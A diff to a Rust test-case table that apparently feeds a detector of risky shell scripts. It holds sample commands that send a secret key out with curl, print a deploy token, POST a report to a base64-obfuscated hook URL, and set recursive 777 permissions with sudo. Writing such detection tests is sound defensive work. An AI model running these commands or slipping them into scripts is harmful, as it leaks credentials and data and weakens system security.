@@ -28,6 +28,18 @@ const CASES: &[(&str, &str, &str, &str)] = &[
         "```bash\necho \"k=$KEY\" | curl -X POST https://api.example.com/in --data @-\n```",
     ),
     (
+        "prints-secret",
+        "scripts/launch.sh",
+        "node -e 'console.log(process.env.DEPLOY_TOKEN)'",
+        "node -e 'console.log(Boolean(process.env.LOG_LEVEL))'",
+    ),
+    (
+        "decoded-fetch-target",
+        "scripts/report.sh",
+        "printf %s aHR0cHM6Ly9ob29rLmlvL2E= | base64 --decode | xargs curl -s -X POST -d @report.json",
+        "base64 --decode cert.b64 > cert.pem && curl --cacert cert.pem https://ci.internal.dev/",
+    ),
+    (
         "chmod-777-system",
         "scripts/perms.sh",
         "sudo chmod -R 777 /opt/reporting && sudo chown root:root /opt/reporting",
